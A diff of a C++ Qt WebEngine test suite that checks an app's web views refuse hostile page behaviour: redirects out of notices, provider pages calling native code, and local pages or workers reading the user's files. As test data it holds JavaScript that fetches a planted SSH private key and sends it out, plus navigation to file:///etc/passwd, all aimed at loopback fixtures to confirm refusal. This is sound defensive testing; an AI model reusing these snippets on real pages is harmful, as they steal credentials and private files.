@@ -9,6 +9,7 @@
 #include <QPointer>
 #include <QSignalSpy>
 #include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QWebEngineScriptCollection>
@@ -17,6 +18,7 @@
 #include <gtest/gtest.h>
 
 #include "app/NBMainWindowController.h"
+#include "app/WebModule.h"
 #include "common/AppPaths.h"
 #include "uikit/NBPresentationAnimator.h"
 #include "networking/NetworkTestSupport.h"
@@ -33,6 +35,7 @@
 #include "web/ScriptMessageWebPage.h"
 #include "web/unreached/WKWebViewJavascriptBridge.h"
 #include "webcore/OOPageLoader.h"
+#include "webmodule/WebModuleViews.h"
 
 namespace {
 
@@ -47,8 +50,13 @@ public Q_SLOTS:
     void handle(const QUrl &url) { urls << url; }
 };
 
-// Without a display the program runs itself again under xvfb-run, before main.
+// Without a display the program runs itself again under xvfb-run, before main. It links the pages,
+// so it tells Chromium before it starts what the client's module loader would.
 const bool kUnderDisplay = WebTestDisplay::ensure();
+const bool kEngineEnvironment = [] {
+    WebModule::prepareEngineEnvironment();
+    return true;
+}();
 
 // A page that asks for the user information while it is still being parsed, long before the
 // channel to native code is up, and keeps what it gets.
@@ -69,6 +77,41 @@ class RecordingDelegate : public QObject, public OOPopupWebProtocol
 public:
     void handleJumpAction(const QString &destination) override { destinations << destination; }
     QStringList destinations;
+};
+
+// The web on loopback: answers a ".js" address with `script` (a CDN's), any other with `html` (a
+// provider's page), and keeps what it was asked.
+class LoopbackSite : public QObject
+{
+public:
+    explicit LoopbackSite(QByteArray html, QByteArray script = {})
+        : m_html(std::move(html))
+        , m_script(std::move(script))
+    {
+        m_server.listen(QHostAddress::LocalHost);
+        QObject::connect(&m_server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
+                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
+                    const QByteArray head = socket->readAll();
+                    const QByteArray line = head.left(head.indexOf('\r'));
+                    requests << QString::fromUtf8(line);
+                    const bool script = line.contains(".js ");
+                    const QByteArray &body = script ? m_script : m_html;
+                    socket->write("HTTP/1.1 200 OK\r\nContent-Type: " + QByteArray(script ? "text/javascript" : "text/html")
+                                  + "\r\nConnection: close\r\nContent-Length: " + QByteArray::number(body.size()) + "\r\n\r\n" + body);
+                    socket->disconnectFromHost();
+                });
+                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
+            }
+        });
+    }
+    QString url(const QString &path) const { return QStringLiteral("http://127.0.0.1:%1%2").arg(m_server.serverPort()).arg(path); }
+    QStringList requests;
+
+private:
+    QTcpServer m_server;
+    QByteArray m_html;
+    QByteArray m_script;
 };
 
 // Writes a page under the page root (a local page) and gives its address.
@@ -220,7 +263,7 @@ TEST_F(WebViewsTest, APageFromElsewhereIsNeitherShownNorAnswered)
     view.show();
     page->load(QUrl::fromLocalFile(file.fileName()));
 
-    ASSERT_TRUE(QTest::qWaitFor([&] { return log.contains(QStringLiteral("refused: not a local page")); }, 30000));
+    ASSERT_TRUE(QTest::qWaitFor([&] { return log.contains(QStringLiteral("refused: not a page of ours")); }, 30000));
     QTest::qWait(300);
     EXPECT_NE(page->url(), QUrl::fromLocalFile(file.fileName()));
     EXPECT_TRUE(page->answeringUrl().isEmpty());
@@ -359,16 +402,12 @@ TEST_F(WebViewsTest, TheOlderPageBridgeCarriesMessagesBothWays)
     EXPECT_EQ(asked.size(), 1);
 }
 
-TEST_F(WebViewsTest, InAppLinksClickedInTheNoticeKeepTheirCaseAndANavigationAwayIsRefused)
+TEST_F(WebViewsTest, InAppLinksClickedInTheNoticeKeepTheirCase)
 {
-    // The notice tries to send itself away once loaded; its links are in-app destinations.
     const QUrl notice = writeLocalPage(QStringLiteral("notice-links/index.html"), R"(<!doctype html><html><body style="margin:0">
         <a id="news" href="marlet://newsList" style="position:fixed;left:0;top:0;width:400px;height:500px">news</a>
         <a id="buy" href="marlet://linkBuy" style="position:fixed;left:400px;top:0;width:400px;height:500px">buy</a>
-        <script>
-          window.post = function (name, body) { window.webkit.messageHandlers[name].postMessage(JSON.stringify(body)); };
-          window.addEventListener('load', function () { location.href = 'https://example.com/promo'; });
-        </script></body></html>)");
+        </body></html>)");
     RecordingDelegate delegate;
     QWidget window;
     window.resize(800, 500);
@@ -377,16 +416,8 @@ TEST_F(WebViewsTest, InAppLinksClickedInTheNoticeKeepTheirCaseAndANavigationAway
     int closes = 0;
     popup->closeBlock = [&] { ++closes; };
     window.show();
-    QSignalSpy loaded(popup->page(), &QWebEnginePage::loadFinished);
     popup->load(notice);
-    ASSERT_TRUE(loaded.wait(30000));
-    // The redirect was refused: the notice is still there, answered, and closable from its page.
-    ASSERT_TRUE(waitInPage(popup->page(), QStringLiteral("document.readyState === 'complete'")));
-    QTest::qWait(200);
-    ASSERT_FALSE(popup.isNull());
-    EXPECT_EQ(popup->page()->url(), notice);
-    EXPECT_EQ(popup->scriptPage()->answeringUrl(), notice);
-    EXPECT_TRUE(opened.isEmpty());
+    ASSERT_TRUE(QTest::qWaitFor([&] { return popup && popup->scriptPage()->answeringUrl() == notice; }, 30000));
 
     // A real click on the link: the destination as the page wrote it, then the popup closes.
     QWidget *surface = popup->focusProxy();
@@ -406,22 +437,115 @@ TEST_F(WebViewsTest, InAppLinksClickedInTheNoticeKeepTheirCaseAndANavigationAway
     EXPECT_EQ(closes, 2);
 }
 
-TEST_F(WebViewsTest, ALocalPageReadsOnlyItsOwnFilesAndTalksOnlyToTheService)
+TEST_F(WebViewsTest, ANoticeThatLeavesItsPageByAnyRoadClosesAndFreesTheWindow)
 {
-    // Something of the user's to steal, and a host of the page's choosing to send it to.
+    LoopbackSite site("<!doctype html><p>promo</p>");
+    const QString promo = site.url(QStringLiteral("/promo"));
+    // Each road a page has out of its document, taken once it has loaded.
+    const QList<std::pair<const char *, QString>> roads{
+        {"script", QStringLiteral("<script>addEventListener('load', function () { location.href = '%1'; });</script>")},
+        {"refresh", QStringLiteral("<meta http-equiv=\"refresh\" content=\"0; url=%1\">")},
+        {"form", QStringLiteral("<form action=\"%1\" method=\"post\"><input name=\"a\" value=\"b\"></form>"
+                                "<script>addEventListener('load', function () { document.forms[0].submit(); });</script>")},
+        {"link", QStringLiteral("<a href=\"%1\" style=\"position:fixed;inset:0\">promo</a>")},
+    };
+    QWidget window;
+    window.resize(800, 500);
+    window.show();
+    for (const auto &[road, html] : roads) {
+        SCOPED_TRACE(road);
+        opened.clear();
+        const QUrl notice = writeLocalPage(QStringLiteral("notice-away/%1.html").arg(QLatin1String(road)),
+                                           (QStringLiteral("<!doctype html><html><body style=\"margin:0\">") + html.arg(promo)
+                                            + QStringLiteral("</body></html>")).toUtf8());
+        // Shown as the home screen shows its notices.
+        int closes = 0;
+        WebViews::NoticePopup shown;
+        shown.frame = QRect(0, 0, 800, 500);
+        shown.page = notice;
+        shown.closed = [&closes] { ++closes; };
+        QPointer<OOPopupWebView> popup = qobject_cast<OOPopupWebView *>(WebModuleViews().showNoticePopup(&window, shown));
+        ASSERT_FALSE(popup.isNull());
+        if (QLatin1String(road) == QLatin1String("link")) {
+            ASSERT_TRUE(QTest::qWaitFor([&] { return popup && popup->scriptPage()->answeringUrl() == notice; }, 30000));
+            QTest::mouseClick(popup->focusProxy(), Qt::LeftButton, {}, QPoint(400, 250));
+        }
+        // Gone, not left blank over the window: the window's own area is free again.
+        ASSERT_TRUE(QTest::qWaitFor([&] { return popup.isNull(); }, 30000));
+        EXPECT_EQ(closes, 1);
+        EXPECT_EQ(window.childAt(400, 250), nullptr);
+        // A clicked link's address goes where the link rule sends it: the desktop's browser.
+        const QList<QUrl> expected = QLatin1String(road) == QLatin1String("link") ? QList<QUrl>{QUrl(promo)} : QList<QUrl>{};
+        EXPECT_EQ(opened, expected);
+    }
+    EXPECT_TRUE(site.requests.isEmpty()) << site.requests.join('\n').toStdString();
+}
+
+TEST_F(WebViewsTest, AFullScreenPageUsesTheWebAndNavigatesInPlaceWhereNothingAnswersIt)
+{
+    // A provider's page that asks native code for the user's token.
+    LoopbackSite site(R"(<!doctype html><html><body><script>
+        window.ownScript = true;
+        window.webkit && window.webkit.messageHandlers.getUserInfo && window.webkit.messageHandlers.getUserInfo.postMessage('');
+        </script></body></html>)", "window.cdnScript = true;");
+    const QUrl page = writeLocalPage(QStringLiteral("pay/index.html"), QStringLiteral(R"(<!doctype html><html><body>
+        <script src="%1"></script>
+        <script>
+          window.__$$$_native_call_ios = { getUserInfoCallback: function () { window.replies = (window.replies || 0) + 1; } };
+          window.webkit.messageHandlers.getUserInfo.postMessage('');
+        </script></body></html>)").arg(site.url(QStringLiteral("/cdn/lib.js"))).toUtf8());
+
+    MessageCapture log;
+    QWebEngineView view;
+    auto *scriptPage = new ScriptMessageWebPage(ScriptMessageRouter::HostKind::PageController, nullptr, &view);
+    QSignalSpy replies(scriptPage, &ScriptMessageWebPage::replyEvaluated);
+    view.setPage(scriptPage);
+    view.resize(400, 300);
+    view.show();
+    scriptPage->load(page);
+    // Its script from the web ran, and the page is answered.
+    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.replies === 1 && window.cdnScript === true")));
+    EXPECT_EQ(site.requests.value(0), QStringLiteral("GET /cdn/lib.js HTTP/1.1"));
+
+    // Off to the provider, in place.
+    const QUrl provider(site.url(QStringLiteral("/checkout")));
+    evaluate(scriptPage, QStringLiteral("location.href = '%1'").arg(provider.toString()));
+    ASSERT_TRUE(QTest::qWaitFor([&] { return scriptPage->url() == provider; }, 30000));
+    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.ownScript === true && !window.__$$$_native_call_ios")));
+    EXPECT_TRUE(scriptPage->answeringUrl().isEmpty());
+    ASSERT_TRUE(QTest::qWaitFor([&] { return log.contains(QStringLiteral("not from a loaded local page; dropped")); }, 20000))
+        << "the provider's page reached native code and was turned away";
+    QCoreApplication::processEvents();
+    EXPECT_EQ(replies.count(), 1);
+
+    // A script sending the page to the user's files goes nowhere.
+    evaluate(scriptPage, QStringLiteral("location.href = 'file:///etc/passwd'"));
+    QTest::qWait(200);
+    EXPECT_EQ(scriptPage->url(), provider);
+}
+
+TEST_F(WebViewsTest, NothingALocalPageStartsReadsTheUsersFilesWorkersIncluded)
+{
+    // Something of the user's to steal.
     ASSERT_TRUE(QDir().mkpath(QDir::homePath() + QStringLiteral("/.ssh")));
     QFile key(QDir::homePath() + QStringLiteral("/.ssh/id_ed25519"));
     ASSERT_TRUE(key.open(QIODevice::WriteOnly));
     key.write("PRIVATE KEY");
     key.close();
-    QTcpServer collector;
-    ASSERT_TRUE(collector.listen(QHostAddress::LocalHost));
-    int connections = 0;
-    QObject::connect(&collector, &QTcpServer::newConnection, [&] { ++connections; });
-
-    writeLocalPage(QStringLiteral("thief/own.js"), "window.ownScript = true;");
     const QString sshUrl = QUrl::fromLocalFile(key.fileName()).toString();
-    const QString collect = QStringLiteral("http://127.0.0.1:%1/collect").arg(collector.serverPort());
+    // What every worker does: read the key and say what came of it.
+    const QString steal = QStringLiteral(R"(
+        function steal(say) {
+          fetch('%1').then(function (r) { return r.text(); })
+                     .then(function (t) { say('read ' + t); }, function () { say('refused'); });
+        })").arg(sshUrl);
+    writeLocalPage(QStringLiteral("thief/own.js"), "window.ownScript = true;");
+    writeLocalPage(QStringLiteral("thief/shared.js"), (steal + QStringLiteral(R"(
+        onconnect = function (e) { var port = e.ports[0]; steal(function (m) { port.postMessage(m); }); };)")).toUtf8());
+    writeLocalPage(QStringLiteral("thief/dedicated.js"), (steal + QStringLiteral(R"(
+        steal(function (m) { postMessage(m); });)")).toUtf8());
+    writeLocalPage(QStringLiteral("thief/service.js"), (steal + QStringLiteral(R"(
+        self.addEventListener('install', function () { steal(function (m) { fetch('/?' + m); }); });)")).toUtf8());
     const QUrl page = writeLocalPage(QStringLiteral("thief/index.html"), QStringLiteral(R"(<!doctype html><html><body>
         <script src="own.js"></script>
         <script>
@@ -431,17 +555,26 @@ TEST_F(WebViewsTest, ALocalPageReadsOnlyItsOwnFilesAndTalksOnlyToTheService)
                                                                function () { window.results[name] = 'refused'; });
           }
           settle('key', fetch('%1'));
-          settle('post', fetch('%2', {method: 'POST', body: 'stolen', mode: 'no-cors'}));
           var xhr = new XMLHttpRequest();
           xhr.onload = function () { window.results.xhr = 'read ' + xhr.responseText; };
           xhr.onerror = function () { window.results.xhr = 'refused'; };
           xhr.open('GET', '%1');
           xhr.send();
-          var img = new Image();
-          img.onload = function () { window.results.img = 'loaded'; };
-          img.onerror = function () { window.results.img = 'refused'; };
-          img.src = '%2?k=stolen';
-        </script></body></html>)").arg(sshUrl, collect).toUtf8());
+          try {
+            var shared = new SharedWorker('shared.js');
+            shared.port.onmessage = function (e) { window.results.shared = e.data; };
+            shared.onerror = function () { window.results.shared = 'refused'; };
+          } catch (e) { window.results.shared = 'refused'; }
+          try {
+            var dedicated = new Worker('dedicated.js');
+            dedicated.onmessage = function (e) { window.results.dedicated = e.data; };
+            dedicated.onerror = function () { window.results.dedicated = 'refused'; };
+          } catch (e) { window.results.dedicated = 'refused'; }
+          try {
+            navigator.serviceWorker.register('service.js').then(function () { window.results.service = 'registered'; },
+                                                                function () { window.results.service = 'refused'; });
+          } catch (e) { window.results.service = 'refused'; }
+        </script></body></html>)").arg(sshUrl).toUtf8());
 
     QWebEngineView view;
     auto *scriptPage = new ScriptMessageWebPage(ScriptMessageRouter::HostKind::PageController, nullptr, &view);
@@ -449,47 +582,55 @@ TEST_F(WebViewsTest, ALocalPageReadsOnlyItsOwnFilesAndTalksOnlyToTheService)
     view.resize(400, 300);
     view.show();
     scriptPage->load(page);
-    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.results.key && window.results.post && window.results.xhr && window.results.img")))
-        << evaluate(scriptPage, QStringLiteral("JSON.stringify(window.results)")).toString().toStdString();
+    const QString all = QStringLiteral("window.results.key && window.results.xhr && window.results.shared && "
+                                       "window.results.dedicated && window.results.service");
+    ASSERT_TRUE(waitInPage(scriptPage, all)) << evaluate(scriptPage, QStringLiteral("JSON.stringify(window.results)")).toString().toStdString();
     EXPECT_TRUE(evaluate(scriptPage, QStringLiteral("window.ownScript === true")).toBool()) << "its own files still load";
-    EXPECT_EQ(evaluate(scriptPage, QStringLiteral("JSON.stringify(window.results)")).toString(),
-              QStringLiteral(R"({"key":"refused","post":"refused","xhr":"refused","img":"refused"})"));
-    QCoreApplication::processEvents();
-    EXPECT_EQ(connections, 0);
+    for (const char *road : {"key", "xhr", "shared", "dedicated", "service"})
+        EXPECT_EQ(evaluate(scriptPage, QStringLiteral("window.results.%1").arg(QLatin1String(road))).toString().toStdString(),
+                  "refused") << road;
 }
 
 TEST_F(WebViewsTest, OnlyTheMainFrameOfALoadedLocalPageIsAnswered)
 {
-    // A frame inside the local page asks the channel itself, with an id it had to guess.
-    writeLocalPage(QStringLiteral("framed/frame.html"), R"(<!doctype html><html><body><script>
-        new QWebChannel(qt.webChannelTransport, function (c) { c.objects.nativeBridge.postMessage('getUserInfo', '', 'guess'); });
+    // A frame inside the local page reaches the channel itself (with the script beside it and the
+    // transport of the page it sits in) and asks with every id it could think of.
+    QFile channelScript(QStringLiteral(":/qtwebchannel/qwebchannel.js"));
+    ASSERT_TRUE(channelScript.open(QIODevice::ReadOnly));
+    writeLocalPage(QStringLiteral("framed/qwebchannel.js"), channelScript.readAll());
+    writeLocalPage(QStringLiteral("framed/frame.html"), R"(<!doctype html><html><body>
+      <script src="qwebchannel.js"></script>
+      <script>
+        var transport = (window.qt && qt.webChannelTransport) || (parent.qt && parent.qt.webChannelTransport);
+        new QWebChannel(transport, function (c) {
+          ['guess', '*', ''].forEach(function (id) { c.objects.nativeBridge.postMessage('getUserInfo', '', id); });
+          parent.frameAsked = true;
+        });
       </script></body></html>)");
     const QUrl page = writeLocalPage(QStringLiteral("framed/index.html"), R"(<!doctype html><html><body>
-        <iframe src="https://example.com/remote.html"></iframe><iframe src="frame.html"></iframe>
         <script>
           window.replies = 0;
           window.__$$$_native_call_ios = { getUserInfoCallback: function () { window.replies++; } };
-        </script></body></html>)");
+        </script><iframe src="frame.html"></iframe></body></html>)");
 
+    MessageCapture log;
     QWebEngineView view;
     auto *scriptPage = new ScriptMessageWebPage(ScriptMessageRouter::HostKind::PageController, nullptr, &view);
     QSignalSpy replies(scriptPage, &ScriptMessageWebPage::replyEvaluated);
     view.setPage(scriptPage);
     view.resize(400, 300);
     view.show();
-    // A remote page first: the view does not go there, and nothing is answered for it.
-    scriptPage->load(QUrl(QStringLiteral("https://example.com/")));
-    QTest::qWait(300);
-    EXPECT_NE(scriptPage->url().scheme(), QStringLiteral("https"));
-    EXPECT_TRUE(scriptPage->answeringUrl().isEmpty());
-
-    QSignalSpy loaded(scriptPage, &QWebEnginePage::loadFinished);
     scriptPage->load(page);
     ASSERT_TRUE(QTest::qWaitFor([&] { return scriptPage->answeringUrl() == page; }, 30000));
+    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.frameAsked === true")))
+        << "the frame must reach the channel for this to test anything";
+    // Its calls reached the gate.
+    ASSERT_TRUE(QTest::qWaitFor([&] { return log.contains(QStringLiteral("call from another document")); }, 20000))
+        << log.messages().join('\n').toStdString();
     evaluate(scriptPage, QStringLiteral("window.webkit.messageHandlers.getUserInfo.postMessage('')"));
-    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.replies === 1")));
+    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.replies >= 1")));
     QTest::qWait(300);
-    EXPECT_EQ(replies.count(), 1) << "the frame's own call got nothing";
+    EXPECT_EQ(replies.count(), 1) << "the frame's calls got nothing";
     EXPECT_EQ(evaluate(scriptPage, QStringLiteral("window.replies")).toInt(), 1);
 }
 
